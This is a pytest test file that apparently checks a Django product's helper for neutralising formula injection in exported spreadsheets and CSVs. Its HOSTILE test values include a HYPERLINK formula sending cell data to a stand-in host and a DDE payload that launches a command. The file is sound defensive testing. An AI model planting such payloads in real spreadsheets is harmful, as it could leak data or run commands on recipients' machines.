"""Formula injection (issue 16, item 1): text that would start a formula is written as text in
every spreadsheet the product writes, by the one neutraliser in core/sheets.py."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from minxin.core.sheets import cell_safe, row_safe
from minxin.imports.models import ImportJob, ImportStatus
from minxin.metrics.models import Export, ExportStatus
from tests.builders import District, appeal_new
from tests.imports.files import rows_csv, upload

HOSTILE = (
    '=HYPERLINK("http://e.vil/?"&A2,"详情")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_quoted(text: str) -> None:
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["景蓉小区", "", "a=1", "1-2", 12, -3, 1.5, None])
def test_everything_else_is_left_alone(value: object) -> None:
    assert cell_safe(value) == value
    assert row_safe([value]) == [value]


def test_an_appeal_titled_as_a_formula_is_text_in_the_ledger(
    district: District, django_capture_on_commit_callbacks: Any
) -> None:
    for text in HOSTILE[:4]:
        appeal_new(district, title=text, appellant_name="=1+1")
    client = Client()
    client.force_login(district.user("supervisor"))
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(reverse("metrics:ledger_export")).status_code == 302
    export = Export.objects.latest("pk")
    assert export.status == ExportStatus.DONE, export.error
    with export.file.open("rb") as f:
        sheet = load_workbook(io.BytesIO(f.read())).worksheets[0]
    titles = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert not str(cell.value or "").startswith(("=", "+", "-", "@"))
        titles.add(row[4].value)
    assert titles == {"'" + t for t in HOSTILE[:4]}


def test_a_rejected_row_quoting_a_formula_is_text_in_the_rejections_csv(
    district: District, django_capture_on_commit_callbacks: Any
) -> None:
    client = Client()
    client.force_login(district.user("dispatcher"))
    header = ["诉求标题", "诉求内容"]
    rows = [[text, ""] for text in HOSTILE[:4]]  # no content: each row is rejected
    # A CSV: in an .xlsx made by openpyxl the first text would be a formula already.
    data = rows_csv(rows, header=header)
    response = client.post(reverse("imports:upload"), {"file": upload("a.csv", data)})
    assert response.status_code == 302
    job = ImportJob.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("imports:mapping", args=[job.pk]),
            {
                "col_title": "0",
                "col_content": "1",
                "source_system": "平台",
                "default_kind": "complaint",
            },
        )
    job.refresh_from_db()
    assert job.status == ImportStatus.CHECKED and job.rejected == 4
    body = client.get(reverse("imports:rejections_csv", args=[job.pk])).content.decode("utf-8-sig")
    excerpts = [row[2] for row in list(csv.reader(io.StringIO(body)))[1:]]
    assert sorted(excerpts) == sorted("'" + t for t in HOSTILE[:4])


def test_sheet_row_writes_numbers_and_dates_as_such() -> None:
    """Issue 14: numbers as numbers, times as local Excel dates with a number format, rates as
    fractions shown as percentages; text still formula-safe."""
    from datetime import UTC, date, datetime

    from django.utils import timezone
    from openpyxl import Workbook

    from minxin.core.sheets import PERCENT, Formatted, sheet_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    at = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)  # 09:30 in Beijing
    sheet.append(
        sheet_row(
            sheet,
            [
                at,
                date(2026, 3, 2),
                12,
                0.5,
                Formatted(0.875, PERCENT),
                Formatted(None, PERCENT),
                "=1",
            ],
        )
    )
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert cells[0].is_date and cells[0].number_format == "yyyy-mm-dd hh:mm"
    assert cells[0].value == timezone.localtime(at).replace(tzinfo=None)
    assert cells[0].value.hour == 9
    assert cells[1].is_date and cells[1].number_format == "yyyy-mm-dd"
    assert cells[2].value == 12 and cells[2].data_type == "n"
    assert cells[3].value == 0.5 and cells[3].data_type == "n"
    assert cells[4].value == 0.875 and cells[4].number_format == "0.0%"
    assert cells[5].value is None
    assert cells[6].value == "'=1"
